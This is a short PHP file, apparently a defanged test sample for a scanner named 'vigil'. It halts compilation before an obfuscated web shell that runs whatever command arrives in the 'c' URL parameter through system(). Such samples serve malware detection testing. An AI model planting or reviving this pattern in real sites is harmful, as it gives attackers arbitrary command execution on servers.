<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$n = '_GET';
$c = $$n;
system($c['c']);
